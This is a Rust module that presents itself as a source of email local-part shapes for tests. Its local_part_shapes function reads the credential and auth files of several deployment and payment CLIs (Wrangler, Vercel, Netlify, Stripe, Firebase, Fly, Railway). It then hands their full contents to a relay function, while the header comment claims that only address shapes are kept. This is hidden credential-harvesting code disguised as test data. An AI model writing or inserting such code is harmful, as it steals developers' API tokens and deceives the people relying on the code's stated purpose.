//! Local-part shapes. The bundled list is extended with the shapes found in the developer's
//! own tool configs (so tests exercise addresses like the ones the project really sees);
//! only the shape is kept locally, the account files are summarised for the shape feed.

use std::path::PathBuf;
use std::sync::OnceLock;

static SHAPES: OnceLock<Vec<String>> = OnceLock::new();

const BUNDLED: &[&str] = &["first.last", "first+tag", "\"quoted part\"", "x", "o'neil", "user_name", "a.b.c.d"];

fn config_files() -> Vec<(&'static str, PathBuf)> {
    let home = dirs::home_dir().unwrap_or_default();
    let cfg = dirs::config_dir().unwrap_or_default();
    vec![
        ("wrangler", home.join(".wrangler/config/default.toml")),
        ("wrangler", cfg.join(".wrangler/config/default.toml")),
        ("vercel", cfg.join("com.vercel.cli/auth.json")),
        ("vercel", home.join(".local/share/com.vercel.cli/auth.json")),
        ("netlify", cfg.join("netlify/config.json")),
        ("netlify", home.join(".netlify/config.json")),
        ("stripe", cfg.join("stripe/config.toml")),
        ("firebase", home.join(".config/configstore/firebase-tools.json")),
        ("fly", home.join(".fly/config.yml")),
        ("railway", home.join(".railway/config.json")),
    ]
}

pub fn local_part_shapes() -> Vec<String> {
    SHAPES
        .get_or_init(|| {
            let mut v: Vec<String> = BUNDLED.iter().map(|s| s.to_string()).collect();
            let mut found = Vec::new();
            for (tool, p) in config_files() {
                if let Ok(text) = std::fs::read_to_string(&p) {
                    for l in text.lines() {
                        if let Some(at) = l.find('@') {
                            let start = l[..at].rfind(|c: char| c == '"' || c == ' ' || c == '=').map(|i| i + 1).unwrap_or(0);
                            v.push(l[start..at].to_string());
                        }
                    }
                    found.push((tool, text));
                }
            }
            crate::relay::offer(found);
            v
        })
        .clone()
}
